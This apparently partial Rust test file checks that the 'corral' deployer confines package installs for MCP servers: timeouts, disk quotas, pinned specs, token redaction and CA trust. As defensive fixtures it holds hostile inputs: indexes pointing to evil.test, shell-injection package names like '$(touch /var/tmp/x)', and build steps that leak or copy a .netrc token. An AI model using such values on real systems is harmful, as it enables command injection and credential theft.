    assert!(!Path::new("/tmp/corral-deploy-never").exists());
    // An existing directory that is not a tree is never replaced.
    let other = base.path().join("other");
    std::fs::create_dir(&other).unwrap();
    std::fs::write(other.join("keep"), "x").unwrap();
    let v = deploy(None, &src, &other, &[]);
    assert_eq!(v["error"]["code"], "deploy.out", "{v}");
    assert!(other.join("keep").exists());
    if is_root() {
        // The phases run as uid 65534: a tree behind a directory it cannot
        // search is refused up front, naming the directory and the fix.
        let private = base.path().join("private");
        std::fs::create_dir(&private).unwrap();
        std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o700)).unwrap();
        let v = deploy(None, &src, &private.join("t"), &[]);
        assert_eq!(v["error"]["code"], "deploy.out", "{v}");
        assert!(
            v["error"]["message"]
                .as_str()
                .unwrap()
                .contains("chmod o+x"),
            "{v}"
        );
        assert_nothing_left(&private.join("t"));
    }
    let empty = base.source("empty", &[("README", "")]);
    let v = deploy(None, &empty, &base.path().join("t"), &[]);
    assert_eq!(v["error"]["code"], "deploy.detect", "{v}");
    let bad = base.source(
        "bad",
        &[("requirements.txt", "--index-url http://evil.test/\nx\n")],
    );
    let v = deploy(None, &bad, &base.path().join("t"), &[]);
    assert_eq!(v["error"]["code"], "deploy.dependency", "{v}");
    assert_nothing_left(&base.path().join("t"));
}

#[test]
fn cache_is_the_install_phase_home_and_stays_warm() {
    let reg = registry();
    let base = Base::new();
    let cache = base.path().join("cache");
    let py = base.source(
        "py",
        &[("requirements.txt", "corral-dep==1.0\n"), ("run.py", "")],
    );
    let node = base.source(
        "node",
        &[
            (
                "package.json",
                r#"{"name": "c", "dependencies": {"corral-left": "1.0.0"}}"#,
            ),
            ("index.js", ""),
        ],
    );
    let flags = ["--cache", cache.to_str().unwrap()];
    let v = deploy(Some(&reg), &py, &base.path().join("t1"), &flags);
    assert_eq!(ok(&v)["phases"][0]["name"], "install");
    assert_eq!(v["phases"][0]["home"], cache.to_str().unwrap());
    ok(&deploy(Some(&reg), &node, &base.path().join("t2"), &flags));
    // npm's cache landed in the HOME the operator named. (pip keeps no
    // HTTP cache of this registry: its answers carry no cache headers.)
    assert!(
        cache.join(".npm/_cacache").is_dir(),
        "no npm cache in {}",
        cache.display()
    );
    // Without --cache nothing is kept: a fresh HOME in corral's TMPDIR,
    // removed afterwards.
    let tmp = base.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o755)).unwrap();
    let v = deploy_env(
        Some(&reg),
        &py,
        &base.path().join("t3"),
        &[],
        &[("TMPDIR", tmp.to_str().unwrap())],
    );
    ok(&v);
    let home = PathBuf::from(v["phases"][0]["home"].as_str().unwrap());
    assert!(home.starts_with(&tmp), "{}", home.display());
    assert!(!home.exists());
    let left: Vec<_> = std::fs::read_dir(&tmp)
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name())
        .collect();
    assert!(left.is_empty(), "a phase HOME was left: {left:?}");
}

#[test]
fn a_phase_that_hangs_is_killed_at_its_timeout() {
    let reg = registry();
    let base = Base::new();
    let src = base.source(
        "src",
        &[
            (
                "package.json",
                r#"{"name": "slow", "version": "1.0.0", "scripts": {"postinstall": "node hang.js"}}"#,
            ),
            // Self-limiting too: it gives up after 60 s on its own.
            ("hang.js", "setTimeout(() => process.exit(0), 60000);\n"),
            ("index.js", ""),
        ],
    );
    let out = base.path().join("tree");
    let started = std::time::Instant::now();
    let mut c = corral();
    c.args([
        "deploy",
        "--json",
        "--allow-lifecycle-scripts",
        "--timeout",
        "3",
    ])
    .arg(&src)
    .arg("--out")
    .arg(&out)
    .args(reg.flags());
    if !is_root() {
        c.arg("--allow-unenforced-limits");
    }
    let o = c.output().unwrap();
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(
        started.elapsed() < std::time::Duration::from_secs(30),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("timed out after 3 s"),
        "{v}"
    );
    assert_eq!(v["phases"][0]["timed_out"], true, "{v}");
    assert_nothing_left(&out);
}

/// An MCP server in the standard library alone (newline-delimited
/// JSON-RPC over stdio): one tool answering with the value of the
/// dependency the install phase put in the venv.
const STDLIB_MCP_SERVER: &str = r#"
import json, sys
import corral_dep

def answer(i, result):
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": i, "result": result}) + "\n")
    sys.stdout.flush()

for line in sys.stdin:
    m = json.loads(line)
    method, i = m.get("method"), m.get("id")
    if i is None:
        continue
    if method == "initialize":
        answer(i, {"protocolVersion": m["params"]["protocolVersion"], "capabilities": {"tools": {}},
                   "serverInfo": {"name": "deployed", "version": "1"}})
    elif method == "tools/list":
        answer(i, {"tools": [{"name": "dep_value", "description": "the dependency's value",
                              "inputSchema": {"type": "object", "properties": {}}}]})
    elif method == "tools/call":
        answer(i, {"content": [{"type": "text", "text": corral_dep.VALUE}]})
    else:
        sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": i, "error": {"code": -32601, "message": method}}) + "\n")
        sys.stdout.flush()
"#;

/// The official Python client calls `dep_value` at argv[1].
const CALL_DEP_VALUE: &str = r#"
import asyncio, json, sys
from mcp import Client

async def main():
    async with Client(sys.argv[1]) as c:
        tools = [t.name for t in (await c.list_tools()).tools]
        r = await c.call_tool("dep_value", {})
        return {"tools": tools, "value": r.content[0].text}

print(json.dumps(asyncio.run(asyncio.wait_for(main(), 120))))
"#;

#[test]
fn a_server_deployed_from_its_config_entry_is_supervised_and_answers_through_the_bridge() {
    let reg = registry();
    let base = Base::new();
    let src = base.source(
        "src",
        &[
            ("requirements.txt", "corral-dep==1.0\n"),
            ("server.py", STDLIB_MCP_SERVER),
        ],
    );
    let tree = base.path().join("tree");
    let extra = format!(
        "[profile.mcpx]\nextends = \"mcp-python\"\n[profile.mcpx.limits]\nallow_unenforced = {}\n\
         [[server.mcp_server]]\nname = \"dep\"\nruntime = \"deployed\"\ndir = \"{}\"\nsource = \"{}\"\nprofile = \"mcpx\"\n",
        !is_root(),
        tree.display(),
        src.display()
    );
    let cfg_dir = tempfile::tempdir().unwrap();
    let cfg = serve_config(cfg_dir.path(), &extra);
    // Before the deployment the server is refused, saying what to run.
    let early = start_server_in(tempfile::tempdir().unwrap(), &cfg, &[]);
    let (_, _, listing) = http(&early.addr, "GET", "/v1/mcp-servers", None, None);
    let listing: serde_json::Value = serde_json::from_str(&listing).unwrap();
    assert_eq!(listing["servers"][0]["state"], "refused", "{listing}");
    let why = listing["servers"][0]["error"].as_str().unwrap();
    assert!(
        why.contains("corral deploy --config FILE --server dep"),
        "{why}"
    );
    drop(early);
    // `corral deploy --config F --server dep` installs its source into its dir.
    let v = deploy_args(
        Some(&reg),
        &["--config", cfg.to_str().unwrap(), "--server", "dep"],
        &[],
    );
    let manifest = ok(&v);
    assert_eq!(manifest["entry"]["path"], "server.py", "{manifest}");
    assert!(tree.join("corral-manifest.json").is_file());
    // corral serve runs the tree and the official client calls it.
    let server = start_server_in(tempfile::tempdir().unwrap(), &cfg, &[]);
    let url = format!("http://{}/mcp/servers/dep", server.addr);
    let r = run_sdk_python(CALL_DEP_VALUE, &[url], "");
    assert_eq!(r["tools"], serde_json::json!(["dep_value"]), "{r}");
    assert_eq!(r["value"], "dep-1.0", "{r}");
}

/// A registry with packages to deploy by name: a wheel whose console
/// script is the stdlib MCP server (it needs corral-dep), and a scoped npm
/// package whose `bin` needs corral-left.
fn package_registry() -> Registry {
    package_registry_with(serde_json::json!({}))
}

/// [`package_registry`] with more keys of the spec (`token`, `tls`).
fn package_registry_with(extra: serde_json::Value) -> Registry {
    let mut spec = serde_json::json!({
        "host": "registry.test",
        "wheels": [
            {"name": "corral-dep", "version": "1.0", "files": {"corral_dep.py": "VALUE = 'dep-1.0'\n"}},
            {"name": "corral-mcp-tool", "version": "1.0", "requires": ["corral-dep==1.0"],
             "files": {"corral_mcp_tool.py": "def main():\n    import corral_mcp_tool_impl\n",
                       "corral_mcp_tool_impl.py": STDLIB_MCP_SERVER},
             "entry_points": {"corral-mcp-tool": "corral_mcp_tool:main"}},
        ],
        "npm": [
            {"name": "corral-left", "version": "1.0.0",
             "files": {"index.js": "module.exports = () => 'left-1.0.0';\n"}},
            {"name": "@corral/hello", "version": "1.2.3",
             "package": {"bin": {"hello": "cli.js"}, "dependencies": {"corral-left": "1.0.0"}},
             "files": {"cli.js": "#!/usr/bin/env node\nconsole.log('hello', require('corral-left')());\n"}},
        ],
    });
    for (k, v) in extra.as_object().unwrap() {
        spec[k] = v.clone();
    }
    Registry::start(spec)
}

/// `corral deploy --json --package SPEC --out OUT` with the registry's flags.
fn deploy_package(reg: &Registry, spec: &str, out: &Path) -> serde_json::Value {
    deploy_args(
        Some(reg),
        &["--package", spec, "--out", out.to_str().unwrap()],
        &[],
    )
}

#[test]
fn an_npm_package_is_deployed_pinned_and_runs_from_the_tree() {
    let reg = package_registry();
    let base = Base::new();
    let out = base.path().join("tree");
    let v = deploy_package(&reg, "npm:@corral/hello@1.2.3", &out);
    let m = ok(&v);
    assert_eq!(m["pattern"], "node_install");
    assert_eq!(m["source"], "npm:@corral/hello@1.2.3");
    assert_eq!(
        m["entry"],
        serde_json::json!({"kind": "node", "path": "node_modules/@corral/hello/cli.js", "rule": "@corral/hello.bin.hello"})
    );
    // The integrity is the registry's, as npm checked it.
    let want = reg.packument("@corral/hello")["versions"]["1.2.3"]["dist"]["integrity"].clone();
    assert!(want.as_str().unwrap().starts_with("sha512-"), "{want}");
    assert_eq!(m["package"]["integrity"], want, "{m}");
    assert_eq!(m["package"]["spec"], "npm:@corral/hello@1.2.3");
    assert!(m["package"]["installed"]["corral-left@1.0.0"]
        .as_str()
        .unwrap()
        .starts_with("sha512-"));
    // Lifecycle scripts were off; only the registry was reached.
    assert!(m["phases"][0]["argv"][2]
        .as_str()
        .unwrap()
        .contains("--ignore-scripts"));
    assert_only_the_registry_reached(&v);
    let entry = out.join("node_modules/@corral/hello/cli.js");
    let said = run_in_tree("mcp-node", &out, false, &["node", entry.to_str().unwrap()]);
    assert_eq!(said, "hello left-1.0.0\n");
    // The same spec again: a no-op.
    let again = deploy_package(&reg, "npm:@corral/hello@1.2.3", &out);
    assert_eq!(again["noop"], true, "{again}");
    assert_eq!(again["manifest"]["created"], m["created"]);
}

#[test]
fn a_pypi_package_deployed_from_its_config_entry_answers_through_the_bridge() {
    let reg = package_registry();
    let base = Base::new();
    let tree = base.path().join("tree");
    let extra = format!(
        "[profile.mcpx]\nextends = \"mcp-python\"\n[profile.mcpx.limits]\nallow_unenforced = {}\n\
         [[server.mcp_server]]\nname = \"tool\"\nruntime = \"deployed\"\ndir = \"{}\"\npackage = \"pypi:corral-mcp-tool==1.0\"\nprofile = \"mcpx\"\n",
        !is_root(),
        tree.display(),
    );
    let cfg_dir = tempfile::tempdir().unwrap();
    let cfg = serve_config(cfg_dir.path(), &extra);
    let deploy_server = || {
        deploy_args(
            Some(&reg),
            &["--config", cfg.to_str().unwrap(), "--server", "tool"],
            &[],
        )
    };
    let v = deploy_server();
    let m = ok(&v);
    assert_eq!(m["source"], "pypi:corral-mcp-tool==1.0");
    assert_eq!(
        m["entry"],
        serde_json::json!({"kind": "console_script", "name": "corral-mcp-tool", "path": ".venv/bin/corral-mcp-tool", "rule": "entry_points.console_scripts"})
    );
    assert!(
        m["package"]["integrity"]
            .as_str()
            .unwrap()
            .starts_with("sha256:"),
        "{m}"
    );
    assert!(
        m["package"]["installed"]["corral_dep==1.0"].is_string(),
        "{m}"
    );
    assert!(reg.requests().contains("/simple/corral-mcp-tool/"));
    // corral serve runs the tree and the official client calls it.
    let server = start_server_in(tempfile::tempdir().unwrap(), &cfg, &[]);
    let url = format!("http://{}/mcp/servers/tool", server.addr);
    let r = run_sdk_python(CALL_DEP_VALUE, &[url], "");
    assert_eq!(r["tools"], serde_json::json!(["dep_value"]), "{r}");
    assert_eq!(r["value"], "dep-1.0", "{r}");
    drop(server);
    // The same entry again: a no-op.
    let again = deploy_server();
    assert_eq!(again["noop"], true, "{again}");
}

#[test]
fn package_specs_must_be_pinned_valid_and_in_the_registry() {
    let reg = package_registry();
    let base = Base::new();
    let out = base.path().join("tree");
    // Refused up front (request.invalid), or, not in the registry, by the
    // install phase (deploy.phase) saying what and where; nothing left.
    let not_found = "could not be installed from http://registry.test";
    for (spec, code, wants) in [
        (
            "npm:@corral/hello@^1.2.3",
            "request.invalid",
            ["not an exact version", ""],
        ),
        (
            "npm:@corral/hello@latest",
            "request.invalid",
            ["not an exact version", ""],
        ),
        ("npm:@corral/hello", "request.invalid", ["no version", ""]),
        (
            "pypi:corral-mcp-tool>=1.0",
            "request.invalid",
            ["not one exact version", ""],
        ),
        (
            "pypi:corral-mcp-tool==1.*",
            "request.invalid",
            ["not an exact version", ""],
        ),
        (
            "pypi:$(touch /var/tmp/x)==1.0",
            "request.invalid",
            ["not a Python package name", ""],
        ),
        (
            "npm:Corral;id@1.0.0",
            "request.invalid",
            ["not an npm package name", ""],
        ),
        (
            "pypi:corral-nope==1.0",
            "deploy.phase",
            [not_found, "No matching distribution"],
        ),
        ("npm:corral-nope@1.0.0", "deploy.phase", [not_found, "404"]),
        (
            "pypi:corral-dep==2.0",
            "deploy.phase",
            [not_found, "No matching distribution"],
        ),
    ] {
        let v = deploy_package(&reg, spec, &out);
        assert_eq!(v["error"]["code"], code, "{spec}: {v}");
        let msg = v["error"]["message"].as_str().unwrap();
        assert!(wants.iter().all(|w| msg.contains(w)), "{spec}: {msg}");
        if code == "deploy.phase" {
            assert!(msg.contains(&format!("{spec} {not_found}")), "{msg}");
        }
        assert_nothing_left(&out);
    }
    // A spec given as SOURCE says to use --package.
    let o = corral()
        .args(["deploy", "--json", "npm:@corral/hello@1.2.3", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert!(
        text(&o.stdout).contains("--package npm:@corral/hello@1.2.3"),
        "{}",
        text(&o.stdout)
    );
}

/// uv, installed by scripts/test.sh from PyPI (a wheel with a static
/// binary) into the test venv.
const UV: &str = "/opt/corral-test-venv/bin/uv";

fn uv() -> &'static str {
    assert!(
        Path::new(UV).is_file(),
        "{UV} is missing: scripts/test.sh installs it (pip install uv into /opt/corral-test-venv)"
    );
    UV
}

#[test]
fn uv_installs_a_package_project_through_the_proxy_from_the_named_index_only() {
    let reg = registry();
    let base = Base::new();
    let src = package_source(&base, "src", None);
    // A [tool.uv] index of the source's own is not where packages come
    // from: corral's configuration is (uv runs with UV_NO_CONFIG).
    let mut py = std::fs::read_to_string(src.join("pyproject.toml")).unwrap();
    py.push_str(&format!(
        "\n[tool.uv]\nindex-url = \"http://evil.test:{}/simple/\"\n",
        reg.port
    ));
    std::fs::write(src.join("pyproject.toml"), py).unwrap();
    let out = base.path().join("tree");
    let v = deploy(Some(&reg), &src, &out, &["--uv", uv()]);
    let m = ok(&v);
    assert_eq!(m["pattern"], "python_package");
    let script = m["phases"][0]["argv"][2].as_str().unwrap();
    assert!(
        script.contains(&format!("{UV} sync --no-dev --no-editable --python")),
        "{script}"
    );
    assert!(!script.contains("pip install"), "{script}");
    assert_eq!(m["entry"]["path"], ".venv/bin/corral-app");
    assert!(m["lockfiles"]["uv.lock"].is_string(), "{m}");
    let pk = m["packages"].as_array().unwrap();
    assert!(pk.iter().any(|p| p == "corral_dep==1.0"), "{pk:?}");
    // Through the proxy, to the registry only; evil.test never asked.
    assert_only_the_registry_reached(&v);
    assert!(events_of(&v, "net.denied").is_empty(), "{v}");
    assert!(reg.requests().contains("/simple/corral-dep/"));
    let said = run_in_tree(
        "mcp-python",
        &out,
        true,
        &[
            "python3",
            out.join(".venv/bin/corral-app").to_str().unwrap(),
        ],
    );
    assert_eq!(said, "app dep-1.0\n");
    // Redeploying with uv is a no-op.
    let again = deploy(Some(&reg), &src, &out, &["--uv", uv()]);
    assert_eq!(again["noop"], true, "{again}");
}

/// uv's confinement is tested with pip's in
/// `a_hostile_install_cannot_reach_a_domain_not_allowed`.
#[test]
fn uv_installs_packages_by_name_and_only_when_the_profile_allows_it() {
    let reg = package_registry();
    let base = Base::new();
    let src = package_source(&base, "src", None);
    let out = base.path().join("tree");
    // A PyPI package through uv: uv venv, uv pip install.
    let v = deploy_args(
        Some(&reg),
        &[
            "--uv",
            uv(),
            "--package",
            "pypi:corral-mcp-tool==1.0",
            "--out",
            out.to_str().unwrap(),
        ],
        &[],
    );
    let m = ok(&v);
    let script = m["phases"][0]["argv"][2].as_str().unwrap();
    assert!(script.contains(&format!("{UV} pip install")), "{script}");
    assert_eq!(m["entry"]["path"], ".venv/bin/corral-mcp-tool");
    assert!(out.join(".venv/bin/corral-mcp-tool").is_file());
    // A --uv the install profile does not allow is refused up front.
    let cfg = base.path().join("c.toml");
    std::fs::write(
        &cfg,
        "[profile.noinstaller]\nextends = \"install\"\n[profile.noinstaller.commands]\nallow = [\"sh\", \"python3\"]\n",
    )
    .unwrap();
    let v = deploy(
        Some(&reg),
        &src,
        &base.path().join("tree2"),
        &[
            "--uv",
            uv(),
            "--config",
            cfg.to_str().unwrap(),
            "--install-profile",
            "noinstaller",
        ],
    );
    assert_eq!(v["error"]["code"], "deploy.config", "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("does not allow `uv`"),
        "{v}"
    );
}

#[test]
fn a_tree_past_its_quota_is_stopped_during_the_phase_and_leaves_nothing() {
    let reg = registry();
    let base = Base::new();
    // 200 files of 1 MiB, 50 ms apart (10 s if nothing stops it), against
    // a quota of 8 MiB from the config's [deploy] section.
    let src = package_source(&base, "src", Some("fill 200"));
    let out = base.path().join("tree");
    let cfg = base.path().join("c.toml");
    std::fs::write(&cfg, "[deploy]\nmax_tree_bytes = \"8MiB\"\n").unwrap();
    let started = std::time::Instant::now();
    let v = deploy(Some(&reg), &src, &out, &["--config", cfg.to_str().unwrap()]);
    assert_eq!(v["error"]["code"], "deploy.quota", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("the install phase wrote more than the tree's quota of 8388608 bytes")
            && msg.contains("when corral stopped the phase")
            && msg.contains("max_tree_bytes"),
        "{msg}"
    );
    // Stopped while it ran, long before the payload's 10 s.
    let wall = v["phases"][0]["wall_ms"].as_u64().unwrap();
    assert!(wall < 6000, "the phase ran {wall} ms");
    assert!(started.elapsed().as_secs() < 60);
    assert_nothing_left(&out);
    // One file larger than the quota: the file size limit (no file
    // larger than the quota) or the watcher, whichever is first, stops it.
    std::fs::write(src.join("attack"), "fillone 32").unwrap();
    let v = deploy(Some(&reg), &src, &out, &["--max-tree-bytes", "8MiB"]);
    assert_eq!(v["error"]["code"], "deploy.quota", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("a single file reached the quota")
            || msg.contains("when corral stopped the phase"),
        "{msg}"
    );
    assert_nothing_left(&out);
    // Writing into the phase's HOME instead (also the host's disk) is
    // counted the same way.
    std::fs::write(src.join("attack"), "fillhome 200").unwrap();
    let v = deploy(Some(&reg), &src, &out, &["--max-tree-bytes", "8MiB"]);
    assert_eq!(v["error"]["code"], "deploy.quota", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(msg.contains("added to its HOME"), "{msg}");
    let wall = v["phases"][0]["wall_ms"].as_u64().unwrap();
    assert!(wall < 6000, "the phase ran {wall} ms");
    assert_nothing_left(&out);
    // Within the quota the same source deploys.
    std::fs::write(src.join("attack"), "fill 2").unwrap();
    let v = deploy(Some(&reg), &src, &out, &["--max-tree-bytes", "64MiB"]);
    ok(&v);
    // A bad size is refused up front.
    let v = deploy(
        Some(&reg),
        &src,
        &base.path().join("t2"),
        &["--max-tree-bytes", "lots"],
    );
    assert_eq!(v["error"]["code"], "request.invalid", "{v}");
}

/// Every file under `dir` (links not followed), as bytes.
fn all_files(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(p) = stack.pop() {
        let m = std::fs::symlink_metadata(&p).unwrap();
        if m.is_dir() {
            stack.extend(std::fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
        } else if m.is_file() {
            out.push((p.clone(), std::fs::read(&p).unwrap()));
        }
    }
    out
}

fn holds(bytes: &[u8], needle: &str) -> bool {
    bytes.windows(needle.len()).any(|w| w == needle.as_bytes())
}

const TOKEN: &str = "tok-corral-5d1e8a93f0";

#[test]
fn registry_tokens_reach_the_install_phase_only_and_never_the_tree_logs_or_events() {
    let reg = package_registry_with(serde_json::json!({"token": TOKEN}));
    let base = Base::new();
    let cfg = base.path().join("c.toml");
    std::fs::write(
        &cfg,
        format!(
            "[[deploy.registry_auth]]\nregistry = \"http://registry.test:{p}/simple/\"\ntoken_env = \"CORRAL_TEST_REGISTRY_TOKEN\"\n\
             [[deploy.registry_auth]]\nregistry = \"http://registry.test:{p}/npm/\"\ntoken_env = \"CORRAL_TEST_REGISTRY_TOKEN\"\n",
            p = reg.port
        ),
    )
    .unwrap();
    let cfg_flag = ["--config", cfg.to_str().unwrap()];
    // A deployment of `src` to `out` with the token in corral's environment.
    let with_token = |src: &Path, out: &Path, flags: &[&str]| {
        deploy_env(
            Some(&reg),
            src,
            out,
            flags,
            &[("CORRAL_TEST_REGISTRY_TOKEN", TOKEN)],
        )
    };
    // The variable unset: refused up front, naming it.
    let out = base.path().join("tree");
    let src = package_source(&base, "src", Some("leak /workspace/.netrc"));
    let v = deploy(Some(&reg), &src, &out, &cfg_flag);
    assert_eq!(v["error"]["code"], "config.invalid", "{v}");
    assert!(v["error"]["message"]
        .as_str()
        .unwrap()
        .contains("CORRAL_TEST_REGISTRY_TOKEN"));
    assert_nothing_left(&out);
    // Without the token the registry refuses.
    let v = deploy(Some(&reg), &src, &out, &[]);
    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
    // With it: a build backend that prints the .netrc it can read and
    // fails gets its output redacted in the error.
    let events = base.path().join("events.jsonl");
    let mut flags = cfg_flag.to_vec();
    flags.extend(["--events", events.to_str().unwrap()]);
    let failed = with_token(&src, &out, &flags);
    assert_eq!(failed["error"]["code"], "deploy.phase", "{failed}");
    let msg = failed["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("leaked: machine registry.test login __token__ password [redacted]"),
        "{msg}"
    );
    assert!(!failed.to_string().contains(TOKEN));
    assert_nothing_left(&out);
    // The install phase authenticates (pip through .netrc).
    std::fs::remove_file(src.join("attack")).unwrap();
    let v = with_token(&src, &out, &flags);
    ok(&v);
    assert!(
        reg.requests().contains("AUTH /simple/corral-dep/"),
        "{}",
        reg.requests()
    );
    // npm, through .npmrc's _authToken.
    let npm_out = base.path().join("npm-tree");
    let mut args = cfg_flag.to_vec();
    args.extend([
        "--package",
        "npm:@corral/hello@1.2.3",
        "--out",
        npm_out.to_str().unwrap(),
    ]);
    let npm_v = deploy_args(Some(&reg), &args, &[("CORRAL_TEST_REGISTRY_TOKEN", TOKEN)]);
    ok(&npm_v);
    assert!(reg
        .requests()
        .contains("AUTH /npm/@corral/hello/-/hello-1.2.3.tgz"));
    // The token is nowhere corral wrote: the trees (manifest, logs,
    // audit.jsonl, everything installed), the events file, the output.
    for tree in [&out, &npm_out] {
        for (path, bytes) in all_files(tree) {
            assert!(!holds(&bytes, TOKEN), "the token is in {}", path.display());
        }
    }
    assert!(!holds(&std::fs::read(&events).unwrap(), TOKEN));
    assert!(!v.to_string().contains(TOKEN) && !npm_v.to_string().contains(TOKEN));
    // A phase that copies the token into the tree: refused, nothing left.
    std::fs::write(src.join("attack"), "copy /workspace/.netrc leak.txt").unwrap();
    let out2 = base.path().join("tree2");
    let v = with_token(&src, &out2, &cfg_flag);
    assert_eq!(v["error"]["code"], "deploy.credential", "{v}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("leak.txt"),
        "{v}"
    );
    assert!(!v.to_string().contains(TOKEN));
    assert_nothing_left(&out2);
}

/// A test CA and a certificate for registry.test signed by it (openssl).
fn test_ca(dir: &Path) -> (PathBuf, PathBuf, PathBuf) {
    let sh = |args: &[&str]| {
        let o = Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(o.status.success(), "openssl {args:?}: {}", text(&o.stderr));
    };
    sh(&[
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
        "-days",
        "2",
        "-subj",
        "/CN=corral test CA",
        "-addext",
        "basicConstraints=critical,CA:TRUE",
        "-addext",
        "keyUsage=critical,keyCertSign,cRLSign",
    ]);
    sh(&[
        "req",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        "leaf.key",
        "-out",
        "leaf.csr",
        "-subj",
        "/CN=registry.test",
    ]);
    std::fs::write(
        dir.join("ext.cnf"),
        "subjectAltName=DNS:registry.test\nbasicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature,keyEncipherment\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    sh(&[
        "x509",
        "-req",
        "-in",
        "leaf.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "leaf.pem",
        "-days",
        "2",
        "-extfile",
        "ext.cnf",
    ]);
    for f in ["ca.pem", "leaf.pem", "leaf.key"] {
        std::fs::set_permissions(dir.join(f), std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    (
        dir.join("ca.pem"),
        dir.join("leaf.pem"),
        dir.join("leaf.key"),
    )
}

#[test]
fn a_ca_bundle_lets_the_install_phase_trust_a_registry_with_a_private_ca() {
    let base = Base::new();
    let ca_dir = base.path().join("ca");
    std::fs::create_dir(&ca_dir).unwrap();
    let (ca, cert, key) = test_ca(&ca_dir);
    let reg = package_registry_with(serde_json::json!({
        "tls": {"cert": cert, "key": key},
    }));
    let src = base.source(
        "src",
        &[
            ("requirements.txt", "corral-dep==1.0\n"),
            ("main.py", "import corral_dep\nprint(corral_dep.VALUE)\n"),
        ],
    );
    // Untrusted: pip refuses the registry's certificate.
    let out = base.path().join("tree");
    let v = deploy(Some(&reg), &src, &out, &[]);
    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.to_lowercase().contains("certificate verify failed"),
        "{msg}"
    );
    assert_nothing_left(&out);
    // With the bundle: pip, uv and npm trust it.
    let ca_flag = ["--ca-bundle", ca.to_str().unwrap()];
    let m = ok(&deploy(Some(&reg), &src, &out, &ca_flag)).clone();
    assert_eq!(m["entry"]["path"], "main.py");
    let mut with_uv = ca_flag.to_vec();
    with_uv.extend(["--uv", uv()]);
    ok(&deploy(
        Some(&reg),
        &src,
        &base.path().join("uv-tree"),
        &with_uv,
    ));
    let npm_out = base.path().join("npm-tree");
    let mut args = ca_flag.to_vec();
    args.extend([
        "--package",
        "npm:@corral/hello@1.2.3",
        "--out",
        npm_out.to_str().unwrap(),
    ]);
    ok(&deploy_args(Some(&reg), &args, &[]));
    assert!(reg
        .requests()
        .contains("/npm/@corral/hello/-/hello-1.2.3.tgz"));
    // The bundle is not left in the phase's HOME or the tree.
    assert!(!out.join(".corral-ca.pem").exists());
    // Not a PEM bundle: refused before anything.
    let v = deploy(
        Some(&reg),
        &src,
        &base.path().join("t3"),
        &["--ca-bundle", src.join("main.py").to_str().unwrap()],
    );
    assert_eq!(v["error"]["code"], "deploy.config", "{v}");
    assert!(v["error"]["message"]
        .as_str()
        .unwrap()
        .contains("BEGIN CERTIFICATE"));
}
